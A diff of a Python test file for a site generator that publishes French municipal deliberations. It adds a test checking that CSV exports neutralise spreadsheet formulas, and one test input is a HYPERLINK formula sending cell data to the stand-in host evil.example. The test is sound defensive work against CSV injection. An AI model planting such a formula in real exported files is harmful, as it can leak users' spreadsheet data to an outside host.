@@ -134,3 +134,12 @@ def test_an_unresolved_citation_is_plain_text_on_the_page(make_site) -> None:  #
     html = (root / "output/deliberations/eco-003-2438-17-bm/index.html").read_text(encoding="utf-8")
     assert "<h3>Actes cités absents de l&#39;archive</h3>\n<ul><li>URB 015-0877/15/CM</li></ul>" in html
     assert 'class="citation">URB' not in html
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_text(make_site) -> None:  # type: ignore[no-untyped-def]
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+1+1", "-2+3", "@SUM(A1:A2)"]
+    files = {f"{i}.md": act_text(good_act(number=f"ECO 00{i}-24{i}0/17/BM", title=title)) for i, title in enumerate(formulas, 1)}
+    root = make_site(files)
+    assert run_cli("build", "--config", root / "site_config.yaml", "--no-search").status == 0
+    rows = list(csv.DictReader(io.StringIO((root / "output" / "donnees" / "deliberations.csv").read_text(encoding="utf-8-sig"))))
+    assert sorted(row["DELIB_OBJET"] for row in rows) == sorted("'" + title for title in formulas)
